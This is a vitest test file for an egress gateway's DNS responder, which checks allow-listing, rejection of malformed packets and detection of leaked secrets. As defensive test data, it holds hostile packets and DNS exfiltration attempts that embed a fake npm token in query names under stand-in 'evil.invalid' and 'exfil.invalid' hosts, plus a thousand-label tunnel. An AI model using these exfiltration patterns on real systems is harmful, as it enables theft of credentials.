import { createSocket } from 'node:dgram';
import { decode, encode, type Packet, type RecordType } from 'dns-packet';
import { afterEach, describe, expect, it } from 'vitest';
import type { Gateway } from '../../../src/egress/gateway.js';
import { gatewayWith, until } from '../harness.js';

let gateway: Gateway | undefined;
afterEach(async () => {
  await gateway?.close();
  gateway = undefined;
});

/** Sends one datagram; resolves with the answer, or undefined when none came while a well-formed question was answered. */
async function send(port: number, ...messages: Buffer[]): Promise<Packet[]> {
  const answers: Packet[] = [];
  const socket = createSocket('udp4');
  socket.on('message', (message) => answers.push(decode(message)));
  for (const message of messages) socket.send(message, port, '127.0.0.1');
  socket.send(question('last.invalid', 'A', 0xffff), port, '127.0.0.1');
  await until(() => answers.some((answer) => answer.id === 0xffff));
  socket.close();
  return answers.filter((answer) => answer.id !== 0xffff);
}

function question(name: string, type: RecordType = 'A', id = 7): Buffer {
  return encode({ type: 'query', id, flags: 0x0100, questions: [{ type, name }] });
}

const names = { 'registry.test': ['192.0.2.1', '::1'], 'public.test': ['93.184.216.34'], 'inside.test': ['10.0.0.8'] };
const noSuchName = (answer: Packet | undefined) => ((answer?.flags ?? 0) & 0xf) === 3;

describe('the DNS responder', () => {
  it('gives its own address for an allow-listed name, and says nothing more of it', async () => {
    gateway = await gatewayWith({ policy: { mode: 'registry', allow: ['registry.test'] }, names });
    const [v4] = await send(gateway.ports.dns, question('Registry.Test', 'A'));
    const [v6] = await send(gateway.ports.dns, question('registry.test', 'AAAA'));
    const [txt] = await send(gateway.ports.dns, question('registry.test', 'TXT'));
    expect(v4?.answers).toEqual([expect.objectContaining({ type: 'A', data: '127.0.0.1' })]);
    expect(v6?.answers).toEqual([]);
    expect(noSuchName(v6)).toBe(false);
    expect(txt?.answers).toEqual([]);
    expect(gateway.records()[0]).toMatchObject({
      host: 'registry.test',
      port: null,
      via: 'dns',
      allowed: true,
      count: 3,
    });
  });

  it('says at once that any other name does not exist, and keeps it', async () => {
    gateway = await gatewayWith({ names });
    const [answer] = await send(gateway.ports.dns, question('c2.evil.invalid'));
    expect(noSuchName(answer)).toBe(true);
    expect(gateway.records()[0]).toMatchObject({ host: 'c2.evil.invalid', via: 'dns', allowed: false, count: 1 });
  });

  it('gives its own address for a refused name where it answers in its place', async () => {
    gateway = await gatewayWith({ names, sink: { status: 404 } });
    const [answer] = await send(gateway.ports.dns, question('c2.evil.invalid'));
    expect(answer?.answers).toEqual([expect.objectContaining({ type: 'A', data: '127.0.0.1' })]);
    expect(gateway.records()[0]).toMatchObject({ host: 'c2.evil.invalid', via: 'dns', allowed: false, count: 1 });
  });

  it('says of a permitted name that leads nowhere that it does not exist', async () => {
    gateway = await gatewayWith({ policy: { mode: 'registry', allow: ['gone.test'] }, sink: { status: 404 } });
    const [answer] = await send(gateway.ports.dns, question('gone.test'));
    expect(noSuchName(answer)).toBe(true);
    expect(gateway.records()[0]).toMatchObject({ host: 'gone.test', allowed: true });
  });

  it('in mode open answers public names and hides inner ones', async () => {
    gateway = await gatewayWith({ policy: { mode: 'open' }, names });
    const [open] = await send(gateway.ports.dns, question('public.test'));
    const [inside] = await send(gateway.ports.dns, question('inside.test'));
    expect(open?.answers).toHaveLength(1);
    expect(noSuchName(inside)).toBe(true);
    expect(gateway.records().find((record) => record.host === 'inside.test')).toMatchObject({ allowed: false });
  });

  const header = (questions: number, flags = 0x0100) => {
    const head = Buffer.alloc(12);
    head.writeUInt16BE(7, 0);
    head.writeUInt16BE(flags, 2);
    head.writeUInt16BE(questions, 4);
    return head;
  };
  const HOSTILE: readonly [what: string, message: Buffer, answers: number][] = [
    ['nothing', Buffer.alloc(0), 0],
    ['one byte', Buffer.from([1]), 0],
    ['random bytes', Buffer.from('deadbeef'.repeat(16), 'hex'), 0],
    ['a header alone', header(0), 1],
    ['a header that promises 65535 questions', header(65_535), 0],
    ['a name that points to itself', Buffer.concat([header(1), Buffer.from([0xc0, 0x0c, 0, 1, 0, 1])]), 0],
    ['a name cut off', Buffer.concat([header(1), Buffer.from([63, 97, 97])]), 0],
    [
      'two questions',
      encode({
        type: 'query',
        id: 7,
        questions: [
          { type: 'A', name: 'a.invalid' },
          { type: 'A', name: 'b.invalid' },
        ],
      }),
      1,
    ],
    ['an answer', encode({ type: 'response', id: 7, questions: [{ type: 'A', name: 'a.invalid' }] }), 0],
    ['the root', question('.'), 1],
    ['a name with a space', question('a b.invalid'), 1],
    ['a name with control characters', question('\u001b[31m.invalid'), 1],
    ['a decimal address as a name', question('2130706433'), 1],
    ['64 KiB of noise', Buffer.alloc(60_000, 0xff), 0],
  ];

  it.each(HOSTILE)('survives %s', async (_what, message, answers) => {
    gateway = await gatewayWith({ policy: { mode: 'open' }, names });
    expect(await send(gateway.ports.dns, message)).toHaveLength(answers);
    for (const record of gateway.records()) {
      expect(record.allowed && record.host !== 'last.invalid').toBe(false);
      expect(record.host).toMatch(/^[\x21-\x7e]+$/);
    }
  });

  const SECRET = 'npm_Xk29fQpL7vRt3WsZ8yBnC4dMhJ6gUeA1oTiD';
  const questions = (...names: string[]) => names.map((name) => ({ type: 'A', name }) as const);
  const txt = { type: 'TXT', name: 'x', data: SECRET } as const;
  const more = questions('a.invalid', `${SECRET}.evil.invalid`);
  it.each<[what: string, message: Buffer, hosts: readonly string[]]>([
    ['a second question', encode({ type: 'query', id: 7, questions: more }), ['a.invalid', `${SECRET}.evil.invalid`]],
    [
      'an answer',
      encode({ type: 'response', id: 7, questions: questions(`${SECRET}.evil.invalid`) }),
      [`${SECRET}.evil.invalid`],
    ],
    [
      'a record beside a question',
      encode({ type: 'query', id: 7, questions: questions('a.invalid'), additionals: [txt] }),
      ['a.invalid'],
    ],
    ['what is no packet', Buffer.from(`\xff\xff${SECRET}`, 'latin1'), ['(unreadable)']],
  ])('looks through %s', async (_what, message, hosts) => {
    gateway = await gatewayWith({ secrets: [{ name: 'npm token', value: SECRET }] });
    await send(gateway.ports.dns, message);
    expect(gateway.leaks()).toContainEqual(expect.objectContaining({ secret: 'npm token', via: 'dns' }));
    const asked = gateway.records().map(({ host }) => host);
    expect(asked.filter((host) => host !== 'last.invalid')).toEqual(hosts);
  });

  it('a question with the options that resolvers send is a question', async () => {
    gateway = await gatewayWith({ policy: { mode: 'open' }, names });
    const opt = { type: 'OPT', name: '.', udpPayloadSize: 1232, flags: 0, options: [] } as never;
    const message = encode({ type: 'query', id: 7, questions: questions('public.test'), additionals: [opt] });
    expect((await send(gateway.ports.dns, message))[0]?.answers).toHaveLength(1);
    expect(gateway.leaks()).toEqual([]);
    expect(gateway.records()[0]).toMatchObject({ host: 'public.test', allowed: true, count: 1 });
  });

  it('a tunnel of a thousand labels costs a bounded number of records, all counted', async () => {
    gateway = await gatewayWith({ caps: { records: 100 } });
    const secret = Array.from({ length: 1_000 }, (_, i) =>
      question(`${i.toString(16).padStart(30, '0')}.exfil.invalid`),
    );
    for (let i = 0; i < secret.length; i += 100) await send(gateway.ports.dns, ...secret.slice(i, i + 100));
    const { count } = gateway.records().at(-1) ?? { count: 0 };
    expect(gateway.records()).toHaveLength(101);
    expect(count).toBeGreaterThanOrEqual(900);
  });
});
